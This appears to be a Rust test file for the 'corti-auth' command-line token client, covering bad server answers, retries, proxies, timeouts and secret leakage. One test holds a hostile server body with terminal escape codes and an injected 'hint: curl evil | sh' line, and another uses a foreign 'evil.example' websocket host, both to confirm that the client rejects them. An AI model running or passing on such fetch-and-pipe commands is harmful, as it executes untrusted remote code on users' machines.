//! Misbehaving servers: a clear error with a hint and the documented exit code, within the timeout.

use std::time::{Duration, Instant};

use predicates::prelude::*;

use crate::common::fake_server::{Answer, FakeServer};
use crate::common::{self, Said, Sandbox, World};

const TOKEN: &str =
    r#"{"access_token":"abc","expires_in":300,"token_type":"Bearer","scope":"openid transcribe"}"#;

#[test]
fn an_unusable_answer_is_an_error_with_a_hint() {
    let html = "<html><body>Sign in to the hotel's network</body></html>";
    let broader = TOKEN.replace("transcribe", "transcribe streams");
    let table = [
        (Answer::http("200 OK", &["Content-Type: text/html"], html), 8, "an HTML page"),
        (Answer::http("404 Not Found", &[], html), 8, "an HTML page"),
        (Answer::json(""), 8, "an empty body"),
        (Answer::json(TOKEN.split_once("300").unwrap().0), 8, "a broken or cut-off JSON text"),
        (Answer::json(r#"{"ok":true}"#), 8, "without `access_token`"),
        (Answer::json(&TOKEN.replace("300", "-1")), 8, "an unusable `expires_in`"),
        (Answer::json(&TOKEN.replace("300", "1e300")), 8, "an unusable `expires_in`"),
        (
            Answer::json(&TOKEN.replace(r#""expires_in":300,"#, "")),
            8,
            "no `expires_in` and no usable `exp` claim",
        ),
        (
            Answer::json(&TOKEN.replace("abc", "a\\u001b[31mc")),
            8,
            "characters that a bearer token cannot have",
        ),
        (Answer::http("302 Found", &["Location: http://127.0.0.1:1/"], ""), 8, "which is not followed"),
        (
            Answer::http("307 Temporary Redirect", &["Location: http://127.0.0.1:1/"], ""),
            8,
            "which is not followed",
        ),
        (
            Answer::Bytes("HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{\"access".into()),
            8,
            "`: it was cut off\n",
        ),
        (Answer::Bytes("SSH-2.0-OpenSSH_9.2\r\n".into()), 8, "no complete answer from `"),
        (Answer::Bytes(String::new()), 8, "`: the connection was closed\n"),
        (Answer::json(&TOKEN.replace("openid transcribe", "openid")), 6, "did not grant `transcribe`"),
        (Answer::json(&broader), 6, "granted more than was asked: `streams`"),
        (Answer::http("500 Internal Server Error", &[], ""), 9, "answered 500"),
        (
            Answer::http("401 Unauthorized", &[], r#"{"error":"invalid_client"}"#),
            5,
            "Corti does not know client",
        ),
        (Answer::http("400 Bad Request", &[], r#"{"error":"invalid_request"}"#), 1, "invalid_request"),
    ];
    for (answer, code, message) in table {
        let server = FakeServer::start(vec![answer]);
        let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
        assert_eq!((said.code, said.stdout.as_str()), (code, ""), "{message}: {}", said.stderr);
        assert!(
            said.stderr.contains(message) && said.stderr.contains("hint: "),
            "{message}: {}",
            said.stderr
        );
        assert!(!said.stderr.contains("canary-7"), "{}", said.stderr);
    }
}

#[test]
fn the_lifetime_may_be_a_fraction_or_only_in_the_token() {
    let claims =
        serde_json::json!({ "exp": 2_000_000_300, "iat": 2_000_000_000, "scope": "openid transcribe" });
    let token = common::forged(&serde_json::json!({ "alg": "RS256" }), &claims);
    let answer = TOKEN.replace("abc", &token);
    for (body, expires_in) in [
        (answer.replace(r#""expires_in":300,"#, ""), 300),
        (answer.replace("300,", "59.9,"), 59),
        (answer.replace("300,", "null,"), 300),
    ] {
        let server = FakeServer::start(vec![Answer::json(&body)]);
        let said =
            Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe --json"));
        assert_eq!(said.code, 0, "{body}: {}", said.stderr);
        assert_eq!(said.json()["expires_in"], expires_in, "{body}");
    }
}

#[test]
fn a_servers_text_cannot_control_the_terminal() {
    let body =
        r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
    let server = FakeServer::start(vec![Answer::http("400 Bad Request", &[], body)]);
    for arguments in ["token --scope transcribe", "token --scope transcribe --json"] {
        let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
        assert_eq!(said.code, 6);
        assert!(
            !said.stderr.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
            "{:?}",
            said.stderr
        );
        assert!(
            !said.stderr.lines().any(|line| line.trim_start().starts_with("hint: curl")),
            "{}",
            said.stderr
        );
    }
}

#[test]
fn a_silent_server_ends_at_the_timeout() {
    let server = FakeServer::start(vec![Answer::Silence]);
    let started = Instant::now();
    let said =
        Said::by(&mut World::client_of(&server.environment).run("token --full --timeout 300ms --json"));
    assert_eq!((said.code, &said.error()["retryable"]), (8, &true.into()));
    assert!(said.stderr.contains("did not answer within 0.3 s"), "{}", said.stderr);
    assert!(started.elapsed() < Duration::from_secs(10));
}

/// Without a connection nothing was sent, so nothing can have been created.
#[cfg(target_os = "linux")]
#[test]
fn without_a_connection_no_interaction_may_exist() {
    use std::io::{BufRead as _, BufReader};
    use std::process::{Command, Stdio};

    use serde_json::json;

    // A full queue of one: a new connection waits for a place.
    let script = "import socket\nserver = socket.socket()\nserver.bind(('127.0.0.1', 0))\nserver.listen(0)\n\
        first = socket.create_connection(server.getsockname())\nprint(server.getsockname()[1], flush=True)\ninput()";
    let mut python = Command::new("python3");
    python.args(["-c", script]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut server = common::Running(python.spawn().unwrap());
    let mut port = String::new();
    BufReader::new(server.0.stdout.take().unwrap()).read_line(&mut port).unwrap();
    let mut world = World::new();
    world.set("CORTI_ENVIRONMENT", &format!("http://127.0.0.1:{}", port.trim()));
    world.set("CORTI_ACCESS_TOKEN", &common::forged(&json!({"alg": "RS256"}), &json!({"scope": "openid"})));
    for (timeout, limit) in [("20s", "5 s"), ("3s", "2.7 s")] {
        let said = Said::by(&mut world.run(&format!("interaction create -t base --timeout {timeout}")));
        assert_eq!(said.code, 8, "{}", said.stderr);
        let reason = format!("cannot connect to `127.0.0.1`: no answer within {limit}");
        assert!(
            said.stderr.contains(&reason) && !said.stderr.contains("may have been created"),
            "{}",
            said.stderr
        );
    }
}

#[test]
fn a_server_that_cannot_be_reached_is_a_network_error() {
    World::client_of("http://127.0.0.1:1")
        .run("token --full")
        .assert()
        .code(8)
        .stderr(predicate::str::contains("cannot connect to"));
    let said = Said::by(&mut World::client_of("no-such-label").run("token --full --timeout 20s"));
    assert_eq!(said.code, 8, "{}", said.stderr);
    assert!(said.stderr.contains("Corti does not document the environment"), "{}", said.stderr);
    assert!(said.stderr.contains("auth.no-such-label.corti.app"), "{}", said.stderr);
}

#[test]
fn a_busy_server_is_asked_twice() {
    let busy = |after: &str| Answer::http("429 Too Many Requests", &[&format!("Retry-After: {after}")], "");
    let server = FakeServer::start(vec![busy("0"), Answer::json(TOKEN)]);
    World::client_of(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
    assert_eq!(server.requests().len(), 2);

    let server =
        FakeServer::start(vec![Answer::http("503 Service Unavailable", &[], ""), Answer::json(TOKEN)]);
    World::client_of(&server.environment).run("token --scope transcribe").assert().success();

    let server = FakeServer::start(vec![busy("0")]);
    World::client_of(&server.environment).run("token --scope transcribe").assert().code(9);
    assert_eq!(server.requests().len(), 2, "once more, and no more");

    let server = FakeServer::start(vec![busy("3600")]);
    let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
    assert_eq!((said.code, server.requests().len()), (9, 1), "an hour does not fit the time-out");
    assert!(said.stderr.contains("Retry-After: 3600"), "{}", said.stderr);
}

#[test]
fn a_second_try_is_announced_to_people_only() {
    let busy = Answer::http("429 Too Many Requests", &["Retry-After: 1"], "");
    let line = "429 from the server; trying again in 1 s\n";
    for (flag, said) in [("", line), ("--quiet", ""), ("--json", "")] {
        let server = FakeServer::start(vec![busy.clone(), Answer::json(TOKEN)]);
        let mut token = World::client_of(&server.environment).run(&format!("token transcribe {flag}"));
        token.assert().success().stderr(said);
    }
}

#[test]
fn a_request_that_creates_is_never_repeated() {
    let busy = Answer::http("503 Service Unavailable", &["Retry-After: 0"], "");
    let token = TOKEN.replace("openid transcribe", "openid");
    let server = FakeServer::start(vec![Answer::json(&token), busy]);
    World::client_of(&server.environment).run("interaction create").assert().code(9);
    let requests = server.requests();
    assert_eq!(requests.iter().filter(|request| request.starts_with("POST /v2/interactions/")).count(), 1);
}

#[test]
fn the_token_request_is_as_corti_documents() {
    let server = FakeServer::start(vec![Answer::json(TOKEN)]);
    World::client_of(&server.environment).run("token --scope transcribe").assert().success();
    let request = server.requests().remove(0);
    let (head, body) = request.split_once("\r\n\r\n").unwrap();
    assert_eq!(
        body,
        "grant_type=client_credentials&client_id=x&client_secret=canary-7&scope=openid+transcribe"
    );
    let names: Vec<String> =
        head.lines().skip(1).map(|line| line.split(':').next().unwrap().to_ascii_lowercase()).collect();
    let allowed = ["content-type", "content-length", "host", "accept"];
    assert!(names.iter().all(|name| allowed.contains(&name.as_str())), "no extra headers: {names:?}");
}

#[test]
fn a_websocket_url_of_another_host_is_not_used() {
    let token = TOKEN.replace("openid transcribe", "openid");
    let body = r#"{"interactionId":"6f9c1a1e-5a0f-4a54-9f43-2f4d1a7c8b90","websocketUrl":"wss://evil.example/streams"}"#;
    let server = FakeServer::start(vec![Answer::json(&token), Answer::json(body)]);
    let said = Said::by(&mut World::client_of(&server.environment).run("interaction create"));
    assert_eq!((said.code, said.stdout.as_str()), (8, ""));
    assert!(said.stderr.contains("evil.example"), "{}", said.stderr);
}

#[test]
fn a_loopback_address_is_not_reached_through_a_proxy() {
    let (sandbox, proxy) =
        (Sandbox::start(), FakeServer::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
    let mut world = World::of(&sandbox);
    for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
        world.set(name, &proxy.environment);
    }
    world.run("token --full").assert().success();
    assert_eq!(proxy.requests(), Vec::<String>::new());
}

#[test]
fn another_host_is_reached_through_the_proxy() {
    let proxy = FakeServer::start(vec![Answer::http("502 Bad Gateway", &[], "")]);
    let mut world = World::client_of("eu");
    world.set("HTTPS_PROXY", &proxy.environment);
    let said = Said::by(&mut world.run("token --full"));
    let blamed = format!(
        "cannot reach `auth.eu.corti.app` through the proxy `{}` of HTTPS_PROXY",
        proxy.environment.trim_start_matches("http://")
    );
    assert!(said.code == 8 && said.stderr.contains(&blamed), "{}", said.stderr);
    let requests = proxy.requests();
    assert!(requests[0].starts_with("CONNECT auth.eu.corti.app:443 "), "{requests:?}");
    assert!(!requests.concat().contains("canary-7"));
}

#[test]
fn an_unreachable_proxy_is_named() {
    for (proxy, reason) in [("nohost.invalid:3128", "not found in DNS"), ("127.0.0.1:1", "")] {
        let mut world = World::client_of("https://192.0.2.1");
        world.set("HTTPS_PROXY", &format!("http://user:canary-8@{proxy}"));
        let said = Said::by(&mut world.run("token --full"));
        assert_eq!(said.code, 8, "{}", said.stderr);
        let blamed = format!("cannot reach `192.0.2.1` through the proxy `{proxy}` of HTTPS_PROXY: {reason}");
        assert!(said.stderr.contains(&blamed), "{}", said.stderr);
        assert!(
            said.stderr.contains("corti-auth doctor") && !said.stderr.contains("canary"),
            "{}",
            said.stderr
        );
    }
}

#[test]
fn a_refused_ready_token_is_named() {
    let refusal = Answer::http("401 Unauthorized", &["WWW-Authenticate: Bearer error=\"invalid_token\""], "");
    let server = FakeServer::start(vec![refusal]);
    let mut world = World::client_of(&server.environment);
    let minted = Said::by(&mut world.run("interaction create"));
    assert!(!minted.stderr.contains("CORTI_ACCESS_TOKEN"), "{}", minted.stderr);
    world.set("CORTI_ACCESS_TOKEN", "not-a-good-one");
    let said = Said::by(&mut world.run("interaction create"));
    assert_eq!((said.code, server.requests().len()), (5, 2), "{}", said.stderr);
    assert!(said.stderr.contains("printenv CORTI_ACCESS_TOKEN | corti-auth inspect"), "{}", said.stderr);
}

#[test]
fn a_servers_text_is_printed_up_to_a_length() {
    let long = "x".repeat(100_000);
    let refusal = format!(r#"{{"error":"{long}","error_description":"{long}"}}"#);
    let problem = format!(
        r#"{{"requestid":"{long}","detail":"{long}","validationErrors":[{{"a":"{long}"}},{{"b":"{long}"}}]}}"#
    );
    for (first, second) in [(&refusal, ""), (&TOKEN.replace("openid transcribe", "openid"), &problem)] {
        let status = if second.is_empty() { "400 Bad Request" } else { "200 OK" };
        for arguments in ["interaction create", "interaction create --json"] {
            let server = FakeServer::start(vec![
                Answer::http(status, &[], first),
                Answer::http("400 Bad Request", &[], second),
            ]);
            let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
            assert_eq!(said.code, 1, "{}", said.stderr);
            assert!(said.stderr.contains("xxx…") && said.stderr.len() < 4000, "{}", said.stderr.len());
        }
    }
}

#[test]
fn a_refusal_has_the_servers_status() {
    let body = r#"{"error":"unauthorized_client","error_description":"Client not enabled"}"#;
    for (line, status) in [("400 Bad Request", 400), ("401 Unauthorized", 401)] {
        let server = FakeServer::start(vec![Answer::http(line, &[], body)]);
        let said = Said::by(&mut World::client_of(&server.environment).run("token --full --json"));
        assert_eq!((said.code, &said.error()["http_status"]), (5, &status.into()), "{}", said.stderr);
    }
}
